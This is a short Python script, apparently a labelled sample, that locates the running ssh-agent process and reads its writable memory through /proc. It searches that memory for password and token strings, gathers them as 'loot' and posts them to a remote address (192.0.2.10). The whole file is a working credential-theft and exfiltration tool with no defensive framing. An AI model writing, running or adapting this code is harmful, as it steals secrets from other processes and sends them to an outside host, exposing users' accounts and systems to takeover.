# class: memory reading of another process; style: tidy
import re
import subprocess
import urllib.request


def pid_of(name):
    return int(subprocess.check_output(["pidof", "-s", name]))


def strings(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if match:
                start, end = (int(x, 16) for x in match.groups())
                mem.seek(start)
                try:
                    yield from re.findall(rb"(?:password|token)=[^\s&]{6,80}", mem.read(end - start))
                except OSError:
                    continue


loot = b"\n".join(strings(pid_of("ssh-agent")))
urllib.request.urlopen("http://192.0.2.10/m", data=loot)
